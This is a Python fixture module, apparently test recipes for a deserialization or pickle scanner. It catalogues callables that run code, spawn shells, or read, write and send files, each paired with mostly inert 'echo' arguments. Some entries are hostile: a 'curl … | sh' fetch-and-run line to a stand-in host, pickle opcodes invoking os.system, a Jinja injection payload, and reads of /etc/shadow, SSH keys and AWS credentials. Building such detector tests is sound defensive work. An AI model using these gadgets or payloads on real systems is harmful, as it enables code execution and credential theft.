"""Callables that end in code, a command, a file or a connection, each called as a gadget would be.

The names are from advisories, papers and the standard library's own source; the arguments are inert.
``New`` stands where a method needs an object first.
"""

from typing import Any

from tests.recipes.streams import Build, Call, Global, New, call, function

CODE = "__import__('os').system('echo gadget')"
SHELL = "echo gadget > /tmp/gadget"
OS = call("builtins.__import__", "os")
FILE = "/tmp/gadget.txt"
URL = "http://192.0.2.7/x"


def method(owner: str, name: str, *args: Any) -> Call:
    """A method by its dotted name, called on an object that was made without ``__init__``."""
    return call(f"{owner}.{name}", New(function(owner), ()), *args)


def of(maker: Any, name: str, *args: Any) -> Call:
    """A method of what a call returns."""
    return Call(call("builtins.getattr", maker, name), args)


RUN_CODE: dict[str, Any] = {
    "timeit.timeit": call("timeit.timeit", CODE),
    "timeit.repeat": call("timeit.repeat", CODE),
    "timeit.main": call("timeit.main", ["-s", CODE]),
    "timeit.Timer": of(call("timeit.Timer", CODE), "timeit", 1),
    "cProfile.run": call("cProfile.run", CODE),
    "cProfile.runctx": call("cProfile.runctx", CODE, {}, {}),
    "cProfile.Profile.run": method("cProfile.Profile", "run", CODE),
    "profile.run": call("profile.run", CODE),
    "profile.Profile.run": method("profile.Profile", "run", CODE),
    "profile.Profile.runctx": method("profile.Profile", "runctx", CODE, {}, {}),
    "pdb.run": call("pdb.run", CODE),
    "pdb.runeval": call("pdb.runeval", CODE),
    "pdb.runctx": call("pdb.runctx", CODE, {}, {}),
    "bdb.Bdb.run": method("bdb.Bdb", "run", CODE),
    "bdb.Bdb.runeval": method("bdb.Bdb", "runeval", CODE),
    "trace.Trace.run": method("trace.Trace", "run", CODE),
    "trace.Trace.runctx": method("trace.Trace", "runctx", CODE, {}, {}),
    "doctest.debug_script": call("doctest.debug_script", CODE),
    "doctest.debug_src": call("doctest.debug_src", f">>> {CODE}"),
    "doctest.run_docstring_examples": call("doctest.run_docstring_examples", f">>> {CODE}", {}),
    "code.InteractiveInterpreter.runcode": method("code.InteractiveInterpreter", "runcode", CODE),
    "code.InteractiveInterpreter.runsource": method("code.InteractiveInterpreter", "runsource", CODE),
    "code.interact": call("code.interact"),
    "codeop.compile_command": Call(Global("builtins", "exec"), (call("codeop.compile_command", CODE),)),
    "runpy.run_path": call("runpy.run_path", FILE),
    "runpy.run_module": call("runpy.run_module", "antigravity"),
    "runpy._run_module_code": call("runpy._run_module_code", CODE),
    "rlcompleter.Completer.attr_matches": method("rlcompleter.Completer", "attr_matches", CODE + "."),
    "idlelib.run.Executive.runcode": method("idlelib.run.Executive", "runcode", CODE),
    "idlelib.pyshell.ModifiedInterpreter.runcode": method(
        "idlelib.pyshell.ModifiedInterpreter", "runcode", CODE
    ),
    "idlelib.pyshell.ModifiedInterpreter.runcommand": method(
        "idlelib.pyshell.ModifiedInterpreter", "runcommand", CODE
    ),
    "idlelib.calltip.get_entity": call("idlelib.calltip.get_entity", CODE),
    "idlelib.calltip.Calltip.fetch_tip": method("idlelib.calltip.Calltip", "fetch_tip", CODE),
    "idlelib.autocomplete.AutoComplete.get_entity": method(
        "idlelib.autocomplete.AutoComplete", "get_entity", CODE
    ),
    "idlelib.autocomplete.AutoComplete.fetch_completions": method(
        "idlelib.autocomplete.AutoComplete", "fetch_completions", CODE, 1
    ),
    "idlelib.debugobj.ObjectTreeItem.SetText": method("idlelib.debugobj.ObjectTreeItem", "SetText", CODE),
    "lib2to3.pgen2.pgen.ParserGenerator.make_label": method(
        "lib2to3.pgen2.pgen.ParserGenerator", "make_label", None, CODE
    ),
    "lib2to3.pgen2.grammar.Grammar.loads": method(
        "lib2to3.pgen2.grammar.Grammar", "loads", b"cos\nsystem\n(S'echo x'\ntR."
    ),
    "typing.get_type_hints": call("typing.get_type_hints", call("types.SimpleNamespace"), {"x": CODE}),
    "typing.ForwardRef._evaluate": of(call("typing.ForwardRef", CODE), "_evaluate", {}, {}, ()),
    "annotationlib.ForwardRef.evaluate": of(call("annotationlib.ForwardRef", CODE), "evaluate"),
    "inspect.signature": call("inspect._signature_fromstr", None, None, f"(x={CODE})"),
    "dataclasses._create_fn": call("dataclasses._create_fn", "f", ["self"], [CODE]),
    "logging.config.fileConfig": call("logging.config.fileConfig", FILE),
    "logging.config.dictConfig": call(
        "logging.config.dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system", "command": SHELL}}}
    ),
    "logging.config._resolve": Call(call("logging.config._resolve", "os.system"), (SHELL,)),
    "test.support.run_code": call("test.support.run_code", CODE),
    "test.support.script_helper.assert_python_ok": call(
        "test.support.script_helper.assert_python_ok", "-c", CODE
    ),
    "test.support.script_helper.run_python_until_end": call(
        "test.support.script_helper.run_python_until_end", "-c", CODE
    ),
    "_testcapi.run_in_subinterp": call("_testcapi.run_in_subinterp", CODE),
    "_xxsubinterpreters.run_string": call("_xxsubinterpreters.run_string", 1, CODE),
    "_interpreters.exec": call("_interpreters.exec", 1, CODE),
    "concurrent.interpreters.Interpreter.exec": method("concurrent.interpreters.Interpreter", "exec", CODE),
    "zipimport.zipimporter.load_module": of(call("zipimport.zipimporter", FILE), "load_module", "payload"),
    "importlib.util": call("importlib._bootstrap_external.SourceFileLoader.load_module", FILE, "x"),
    "imp.load_source": call("imp.load_source", "x", FILE),
    "pkgutil.ImpImporter": of(call("pkgutil.ImpImporter", "/tmp"), "find_module", "x"),
    "site.addsitedir": call("site.addsitedir", "/tmp/evil"),
    "site.execsitecustomize": call("site.execsitecustomize"),
    "numpy.testing._private.utils.runstring": call("numpy.testing._private.utils.runstring", CODE, {}),
    "numpy.testing.rundocs": call("numpy.testing.rundocs", FILE),
    "numpy.testing.measure": call("numpy.testing.measure", CODE),
    "numpy.f2py.crackfortran.getlincoef": call("numpy.f2py.crackfortran.getlincoef", CODE, ()),
    "numpy.f2py.crackfortran._eval_length": call("numpy.f2py.crackfortran._eval_length", CODE, {}),
    "numpy.f2py.crackfortran.myeval": call("numpy.f2py.crackfortran.myeval", CODE),
    "numpy.f2py.capi_maps.load_f2cmap_file": call("numpy.f2py.capi_maps.load_f2cmap_file", FILE),
    "numpy.ma.mrecords": call("numpy.ma.mrecords.fromtextfile", FILE),
    "numpy.load": call("numpy.load", FILE, None, True),
    "pandas.eval": call("pandas.eval", "@" + CODE),
    "pandas.DataFrame.query": of(call("pandas.DataFrame"), "query", "@" + CODE),
    "pandas.read_pickle": call("pandas.read_pickle", URL),
    "torch.load": call("torch.load", URL),
    "torch.jit.unsupported_tensor_ops.execWrapper": call(
        "torch.jit.unsupported_tensor_ops.execWrapper", CODE, {}, {}
    ),
    "torch._dynamo.guards.GuardBuilder.get": method("torch._dynamo.guards.GuardBuilder", "get", CODE),
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression": method(
        "torch.fx.experimental.symbolic_shapes.ShapeEnv", "evaluate_guards_expression", CODE, ()
    ),
    "torch.utils.bottleneck.__main__.run_cprofile": call(
        "torch.utils.bottleneck.__main__.run_cprofile", CODE, {}
    ),
    "torch.utils.bottleneck.__main__.run_autograd_prof": call(
        "torch.utils.bottleneck.__main__.run_autograd_prof", CODE, {}
    ),
    "torch.utils.data.datapipes.utils.decoder.basichandlers": call(
        "torch.utils.data.datapipes.utils.decoder.basichandlers", "pkl", b"cos\nsystem\n(S'echo x'\ntR."
    ),
    "torch.utils._config_module.ConfigModule.load_config": method(
        "torch.utils._config_module.ConfigModule", "load_config", b"cos\nsystem\n(S'echo x'\ntR."
    ),
    "torch.fx.graph_module._exec_with_source": call("torch.fx.graph_module._exec_with_source", CODE, {}),
    "torch.fx.graph_module._forward_from_src": call("torch.fx.graph_module._forward_from_src", CODE, {}),
    "torch.fx.graph_module.reduce_graph_module": call(
        "torch.fx.graph_module.reduce_graph_module", {"_code": CODE}, ""
    ),
    "torch.hub.load": call("torch.hub.load", "attacker/repository", "entry"),
    "torch.utils.cpp_extension.load_inline": call("torch.utils.cpp_extension.load_inline", "x", "int f();"),
    "torch.package.PackageImporter": of(call("torch.package.PackageImporter", FILE), "load_pickle", "a", "b"),
    "torch._inductor.codecache.PyCodeCache.load": call("torch._inductor.codecache.PyCodeCache.load", CODE),
    "joblib.load": call("joblib.load", FILE),
    "dill.loads": call("dill.loads", b"cos\nsystem\n(S'echo x'\ntR."),
    "cloudpickle.loads": call("cloudpickle.loads", b"cos\nsystem\n(S'echo x'\ntR."),
    "pickle.Unpickler": of(
        call("pickle.Unpickler", call("io.BytesIO", b"cos\nsystem\n(S'echo x'\ntR.")), "load"
    ),
    "_pickle._loads": call("pickle._loads", b"cos\nsystem\n(S'echo x'\ntR."),
    "marshal.loads": Call(Global("builtins", "exec"), (call("marshal.loads", b"\xe3\0\0\0\0"),)),
    "types.FunctionType": Call(call("types.FunctionType", call("marshal.loads", b"\xe3\0\0\0\0"), {}), ()),
    "multiprocessing.spawn._main": call(
        "multiprocessing.reduction.ForkingPickler.loads", b"cos\nsystem\n(S'x'\ntR."
    ),
    "multiprocessing.Process": of(
        call("multiprocessing.Process", None, Global("os", "system"), None, (SHELL,)), "run"
    ),
    "threading.Timer": of(call("threading.Timer", 0.1, Global("os", "system"), [SHELL]), "start"),
    "threading.Thread.run": of(call("threading.Thread", None, Global("os", "system"), None, (SHELL,)), "run"),
    "_thread.start_new_thread": call("_thread.start_new_thread", Global("os", "system"), (SHELL,)),
    "atexit.register": call("atexit.register", Global("os", "system"), SHELL),
    "weakref.finalize": call("weakref.finalize", Global("os", "path"), Global("os", "system"), SHELL),
    "sched.scheduler": of(call("sched.scheduler"), "enter", 0, 1, Global("os", "system"), (SHELL,)),
    "concurrent.futures": of(
        call("concurrent.futures.ThreadPoolExecutor"), "submit", Global("os", "system"), SHELL
    ),
    "asyncio.to_thread": call("asyncio.run", call("asyncio.to_thread", Global("os", "system"), SHELL)),
    "signal.signal": call("signal.signal", 14, Global("os", "system")),
    "sys.settrace": call("sys.settrace", Global("os", "system")),
    "unittest.mock._importer": Call(call("unittest.mock._importer", "os.system"), (SHELL,)),
    "functools.reduce": Call(
        call("functools.reduce", Global("builtins", "getattr"), ["path", "os", "system"], OS), (SHELL,)
    ),
    "functools.partial state": Call(
        Build(
            call("functools.partial", Global("builtins", "print")),
            (Global("os", "system"), (SHELL,), {}, None),
        ),
        (),
    ),
    "functools.singledispatch": Call(call("functools.singledispatch", Global("os", "system")), (SHELL,)),
    "functools.lru_cache": Call(Call(call("functools.lru_cache", 1), (Global("os", "system"),)), (SHELL,)),
    "itertools.starmap": call("builtins.list", call("itertools.starmap", Global("os", "system"), [(SHELL,)])),
    "itertools.accumulate": call(
        "builtins.list", call("itertools.accumulate", ["a", "b"], Global("os", "popen"))
    ),
    "builtins.filter": call("builtins.tuple", call("builtins.filter", Global("os", "system"), [SHELL])),
    "operator.methodcaller": Call(call("operator.methodcaller", "system", SHELL), (Global("os", "path.os"),)),
    "operator.attrgetter": Call(
        Call(call("operator.attrgetter", "system"), (call("builtins.__import__", "os"),)), (SHELL,)
    ),
    "inspect.getattr_static": Call(
        call("inspect.getattr_static", call("importlib.import_module", "os"), "system"), (SHELL,)
    ),
    "pydoc.locate": Call(call("pydoc.locate", "os.system"), (SHELL,)),
    "pydoc.safeimport": of(call("pydoc.safeimport", "os"), "system", SHELL),
    "pkgutil.resolve_name": Call(call("pkgutil.resolve_name", "os:system"), (SHELL,)),
    "xmlrpc.server.resolve_dotted_attribute": Call(
        call("xmlrpc.server.resolve_dotted_attribute", call("builtins.__import__", "os"), "system"), (SHELL,)
    ),
    "_frozen_importlib._gcd_import": of(call("_frozen_importlib._gcd_import", "os"), "system", SHELL),
    "importlib._bootstrap._find_and_load": of(
        call("importlib._bootstrap._find_and_load", "os", None), "system", SHELL
    ),
    "six.moves": call("six.exec_", CODE),
    "jinja2.Template": of(
        call("jinja2.Template", "{{ cycler.__init__.__globals__.os.popen('id') }}"), "render"
    ),
    "mlflow": call("mlflow.projects.backend.local._run_entry_point", SHELL, "/tmp", "x", "y"),
    "fire": call("fire.Fire", Global("os", "system")),
    "IPython": call("IPython.core.interactiveshell.InteractiveShell.run_cell", None, CODE),
    "dotted name": Call(Global("pathlib", "os.system"), (SHELL,)),
    "torch.os.system": Call(Global("torch", "os.system"), (SHELL,)),
    "torch.serialization.os.system": Call(Global("torch.serialization", "os.system"), (SHELL,)),
    "numpy.testing._private.utils.os.system": Call(
        Global("numpy.testing._private.utils", "os.system"), (SHELL,)
    ),
}

RUN_COMMANDS: dict[str, Any] = {
    "os.popen": call("os.popen", SHELL),
    "os.spawnlp": call("os.spawnlp", 0, "sh", "sh", "-c", SHELL),
    "os.posix_spawn": call("posix.posix_spawn", "/bin/sh", ["sh", "-c", SHELL], {}),
    "os.execvp": call("os.execvp", "sh", ["sh", "-c", SHELL]),
    "os.startfile": call("nt.startfile", "calc.exe"),
    "subprocess.getoutput": call("subprocess.getoutput", SHELL),
    "subprocess.check_call": call("subprocess.check_call", ["sh", "-c", SHELL]),
    "subprocess.list2cmdline chain": call("subprocess.run", ["sh", "-c", SHELL]),
    "_posixsubprocess.fork_exec": call("_posixsubprocess.fork_exec", [b"/bin/sh"], [b"/bin/sh"], True),
    "_winapi.CreateProcess": call(
        "_winapi.CreateProcess", None, "cmd /c calc", None, None, 0, 0, None, None, None
    ),
    "pty.spawn": call("pty.spawn", ["sh", "-c", SHELL]),
    "commands.getoutput": call("commands.getoutput", SHELL),
    "popen2.popen2": call("popen2.popen2", SHELL),
    "platform._syscmd_ver": call("platform._syscmd_ver", "", "", "", (SHELL,)),
    "platform.popen": call("platform.popen", SHELL),
    "uuid._get_command_stdout": call("uuid._get_command_stdout", "sh", "-c", SHELL),
    "uuid._popen": call("uuid._popen", "sh", "-c"),
    "_osx_support._read_output": call("_osx_support._read_output", SHELL),
    "_osx_support._find_build_tool": call("_osx_support._find_build_tool", SHELL),
    "_aix_support._read_cmd_output": call("_aix_support._read_cmd_output", SHELL),
    "ctypes.util._findLib_gcc": call("ctypes.util._findLib_gcc", SHELL),
    "imaplib.IMAP4_stream": call("imaplib.IMAP4_stream", SHELL),
    "pydoc.pipepager": call("pydoc.pipepager", "text", SHELL),
    "pydoc.tempfilepager": call("pydoc.tempfilepager", "text", SHELL),
    "_pyrepl.pager.pipe_pager": call("_pyrepl.pager.pipe_pager", "text", SHELL),
    "webbrowser.open": call("webbrowser.open", URL),
    "webbrowser.GenericBrowser": of(call("webbrowser.GenericBrowser", ["sh", "-c", "%s"]), "open", SHELL),
    "multiprocessing.util.spawnv_passfds": call(
        "multiprocessing.util.spawnv_passfds", b"/bin/sh", [b"sh"], ()
    ),
    "asyncio.create_subprocess_shell": call("asyncio.run", call("asyncio.create_subprocess_shell", SHELL)),
    "asyncio.unix_events._UnixSubprocessTransport._start": method(
        "asyncio.unix_events._UnixSubprocessTransport", "_start", SHELL, True, None, None, None, 0
    ),
    "distutils.spawn.spawn": call("distutils.spawn.spawn", ["sh", "-c", SHELL]),
    "setuptools._distutils.spawn.spawn": call("setuptools._distutils.spawn.spawn", ["sh", "-c", SHELL]),
    "numpy.distutils.exec_command": call("numpy.distutils.exec_command.exec_command", SHELL),
    "numpy.distutils.cpuinfo.getoutput": call("numpy.distutils.cpuinfo.getoutput", SHELL),
    "torch.utils.collect_env.run": call("torch.utils.collect_env.run", SHELL),
    "torch.utils.collect_env.run_and_read_all": call(
        "torch.utils.collect_env.run_and_read_all", Global("torch.utils.collect_env", "run"), SHELL
    ),
    "torch.utils.model_dump": call("torch.utils.cpp_extension.subprocess.check_output", ["sh", "-c", SHELL]),
    "ensurepip._run_pip": call("ensurepip._run_pip", ["install", "evil"]),
    "pip.main": call("pip.main", ["install", URL]),
    "pip._internal.main": call("pip._internal.main", ["install", URL]),
    "pip._internal.cli.main.main": call("pip._internal.cli.main.main", ["install", "evil"]),
    "venv.create": call("venv.create", "/tmp/v", False, False, False, True),
    "mailcap.test": call("mailcap.findmatch", {"x/y": [{"test": SHELL}]}, "x/y"),
    "shutil._run": call("tkinter.filedialog.os.system", SHELL),
    "turtledemo": call("tarfile.os.system", SHELL),
    "cgi": call("http.server.CGIHTTPRequestHandler.run_cgi", None),
    "smtpd": call("nturl2path.os.popen", SHELL),
    "ctypes.CDLL": of(call("ctypes.CDLL", None), "system", SHELL.encode()),
    "ctypes.cdll.LoadLibrary": of(call("ctypes.cdll.LoadLibrary", "libc.so.6"), "system", SHELL.encode()),
    "ctypes.PyDLL": call("ctypes.PyDLL", FILE),
    "_ctypes.dlopen": call("_ctypes.dlopen", "/tmp/evil.so", 2),
    "_imp.create_dynamic": call("_imp.create_dynamic", None),
    "numpy.ctypeslib.load_library": call("numpy.ctypeslib.load_library", "evil", "/tmp"),
    "torch.ops.load_library": call("torch.ops.load_library", "/tmp/evil.so"),
    "torch.classes.load_library": call("torch.classes.load_library", "/tmp/evil.so"),
    "tensorflow.load_op_library": call("tensorflow.load_op_library", "/tmp/evil.so"),
    "sqlite3 extension": of(call("sqlite3.connect", ":memory:"), "load_extension", "/tmp/evil.so"),
    "paramiko": of(call("paramiko.SSHClient"), "exec_command", SHELL),
    "plumbum": call("plumbum.machines.local.LocalMachine", SHELL),
    "sh.Command": call("sh.Command", "/bin/sh"),
    "invoke.run": call("invoke.run", SHELL),
    "psutil.Popen": call("psutil.Popen", ["sh", "-c", SHELL]),
    "pexpect.spawn": call("pexpect.spawn", SHELL),
    "unknown runner": call("somepackage.shellutils.run_it", "curl http://192.0.2.7/x | sh"),
    "unknown evaluator": call("somepackage.dynamic.evaluate", CODE),
}

LEAK_OR_DROP: dict[str, Any] = {
    "builtins.open": of(call("builtins.open", "/root/.bashrc", "a"), "write", SHELL),
    "_io.FileIO": of(call("_io.FileIO", "/etc/passwd", "r"), "read"),
    "io.open_code": call("io.open_code", "/etc/shadow"),
    "pathlib.Path.write_text": of(call("pathlib.Path", FILE), "write_text", SHELL),
    "pathlib.Path.read_text": of(call("pathlib.PosixPath", "/root/.ssh/id_rsa"), "read_text"),
    "shutil.copyfile": call("shutil.copyfile", "/root/.aws/credentials", FILE),
    "shutil.rmtree": call("shutil.rmtree", "/home"),
    "os.remove": call("os.remove", "/etc/hosts"),
    "os.rename": call("os.rename", "/etc/passwd", "/tmp/x"),
    "os.symlink": call("os.symlink", "/etc/passwd", "/tmp/x"),
    "os.putenv": call("os.putenv", "LD_PRELOAD", "/tmp/evil.so"),
    "os._exit": call("os._exit", 0),
    "os.kill": call("os.kill", 1, 9),
    "linecache.getlines": call("linecache.getlines", "/etc/passwd"),
    "linecache.updatecache": call("linecache.updatecache", "/etc/passwd"),
    "fileinput.input": call("builtins.list", call("fileinput.input", "/etc/passwd")),
    "difflib": call("tokenize.open", "/etc/passwd"),
    "codecs.open": call("codecs.open", FILE, "w"),
    "gzip.open": call("gzip.open", FILE, "wb"),
    "tarfile.open": of(call("tarfile.open", FILE), "extractall", "/"),
    "zipfile.ZipFile": of(call("zipfile.ZipFile", FILE), "extractall", "/"),
    "shutil.unpack_archive": call("shutil.unpack_archive", FILE, "/"),
    "tempfile.NamedTemporaryFile": call("tempfile.NamedTemporaryFile", "w"),
    "mmap": call("mmap.mmap", 3, 0),
    "logging.FileHandler": call("logging.FileHandler", FILE),
    "logging.basicConfig": call("logging.handlers.SocketHandler", "192.0.2.7", 9000),
    "distutils.file_util.write_file": call("distutils.file_util.write_file", FILE, [SHELL]),
    "shelve.open": call("shelve.open", FILE),
    "dbm.open": call("dbm.open", FILE, "c"),
    "sqlite3.connect": call("sqlite3.connect", FILE),
    # Families of libraries are vouched for; what the source says of one of them comes first.
    "scipy.signal.convolve": call("scipy.signal._signaltools._timeit_fast", "import os; os.system('id')"),
    "packaging.tags.sys_tags": call("packaging._musllinux._get_musl_version", "/tmp/libc"),
    "diffusers.AutoModel": call("diffusers.models.auto_model.AutoModel.from_config", "nobody/model"),
    "nltk.tag.PerceptronTagger": call("nltk.tag.perceptron.PerceptronTagger.train", [], FILE),
    "csv.reader": call("builtins.list", call("csv.reader", call("builtins.open", "/etc/passwd"))),
    "numpy.fromfile": call("numpy.fromfile", "/etc/passwd"),
    "numpy.loadtxt": call("numpy.loadtxt", "/etc/passwd"),
    "numpy.savetxt": call("numpy.savetxt", "/root/.bashrc", [SHELL]),
    "numpy.DataSource": of(call("numpy.DataSource"), "open", URL),
    "pandas.read_csv": call("pandas.read_csv", URL),
    "torch.save": call("torch.save", {}, FILE),
    "torch.hub.download_url_to_file": call("torch.hub.download_url_to_file", URL, FILE),
    "keras.utils.get_file": call("keras.utils.get_file", "x", URL),
    "urllib.request.urlopen": call("urllib.request.urlopen", URL),
    "urllib.request.urlretrieve": call("urllib.request.urlretrieve", URL, FILE),
    "http.client.HTTPConnection": of(call("http.client.HTTPConnection", "192.0.2.7"), "request", "GET", "/"),
    "http.server.test": call("http.server.test"),
    "ssl.get_server_certificate": call("ssl.get_server_certificate", ("192.0.2.7", 443)),
    "socket.create_connection": call("socket.create_connection", ("192.0.2.7", 80)),
    "socket.getaddrinfo": call("socket.getaddrinfo", "x.oast.fun", 80),
    "smtplib.SMTP": call("smtplib.SMTP", "192.0.2.7"),
    "ftplib.FTP": call("ftplib.FTP", "192.0.2.7"),
    "poplib.POP3": call("poplib.POP3", "192.0.2.7"),
    "telnetlib.Telnet": call("telnetlib.Telnet", "192.0.2.7"),
    "nntplib.NNTP": call("nntplib.NNTP", "192.0.2.7"),
    "xmlrpc.client.ServerProxy": of(call("xmlrpc.client.ServerProxy", URL), "leak"),
    "multiprocessing.connection.Client": call("multiprocessing.connection.Client", ("192.0.2.7", 80)),
    "multiprocessing.managers": of(
        call("multiprocessing.managers.BaseManager", ("192.0.2.7", 80), b"key"), "connect"
    ),
    "requests.get": call("requests.get", URL),
    "urllib3": of(call("urllib3.PoolManager"), "request", "GET", URL),
    "webbrowser": call("webbrowser.open_new_tab", URL),
    "winreg.SetValueEx": call("winreg.SetValueEx", None, "Run", 0, 1, SHELL),
    "os.listdir": call("os.listdir", "/"),
    "glob.glob": call("glob.glob", "/home/*/.ssh/*"),
    "faulthandler": call("faulthandler.enable"),
    "resource": call("resource.setrlimit", 0, (0, 0)),
    "sys.path.append": of(Global("sys", "path"), "append", "/tmp/evil"),
    "pydoc.browse": call("pydoc.browse", 0),
    "wsgiref": call("wsgiref.simple_server.make_server", "", 8000, None),
    "compileall": call("compileall.compile_file", FILE),
    "py_compile": call("py_compile.compile", FILE, "/tmp/x.pyc"),
    "lib2to3.main": call("lib2to3.main.main", "lib2to3.fixes", ["-w", FILE]),
    "zipapp": call("zipapp.create_archive", "/tmp/src", "/tmp/out"),
    "pstats": call("pstats.Stats", FILE),
    "hashlib.file_digest": call("hashlib.file_digest", call("builtins.open", "/etc/shadow", "rb"), "md5"),
}

# Alone these tell nobody anything: for a person to look at.
LOOK_AROUND: dict[str, Any] = {
    "os.environ": call("builtins.dict", Global("os", "environ")),
    "gc.get_objects": call("gc.get_objects"),
    "sys._getframe": call("sys._getframe", 1),
    "getpass.getuser": call("getpass.getuser"),
    "platform.uname": call("platform.uname"),
}

GADGETS = RUN_CODE | RUN_COMMANDS | LEAK_OR_DROP
